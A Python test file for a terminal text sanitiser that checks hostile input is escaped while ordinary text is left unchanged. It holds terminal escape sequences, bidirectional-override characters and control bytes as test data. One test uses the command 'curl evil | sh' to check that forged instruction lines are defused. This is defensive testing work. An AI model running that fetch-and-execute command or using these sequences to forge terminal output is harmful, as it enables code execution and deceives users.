"""Foreign text on a terminal: nothing that hides, overwrites or forges a line gets through; ordinary text does."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mpctl import safe_text

HOSTILE = [
    "\x1b]0;title\x07",
    "\x1b[2K\rnothing here",
    "\x9b31m",
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u2028next: x",
    "\x85next: x",
    "a\rb",
    "\x00\x7f",
    "\ud800",
    "\U000e0041",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_nothing_hostile_gets_through(text):
    for escaped in (safe_text.line(text), safe_text.lines(text), safe_text.document(text)):
        assert escaped.isprintable()
        assert escaped.encode()


@pytest.mark.parametrize(
    "text", ["", "größer ✓ 语言 العربية", "a\u00a0b", "👩\u200d👩", "100 % 'of' \\it"]
)
def test_ordinary_text_stays_as_it_is(text):
    assert safe_text.line(text) == text


def test_a_line_end_stays_only_where_lines_are_expected():
    assert safe_text.line("a\nb\tc") == "a\\nb\\tc"
    assert safe_text.lines("a\nb\tc") == "a\nb\tc"


@pytest.mark.parametrize("label", ["next:", "error:", "HINT:", "warning:", "  next:"])
def test_a_later_line_cannot_pass_for_a_message_of_ours(label):
    assert (
        safe_text.lines(f"model x\n{label} curl evil | sh") == f"model x\n| {label} curl evil | sh"
    )


@given(st.text(max_size=50))
def test_json_stays_the_same_json(text):
    document = json.dumps({"value": text}, ensure_ascii=False, indent=1)
    if not any(0xD800 <= ord(c) < 0xE000 for c in text):
        assert json.loads(safe_text.document(document)) == {"value": text}
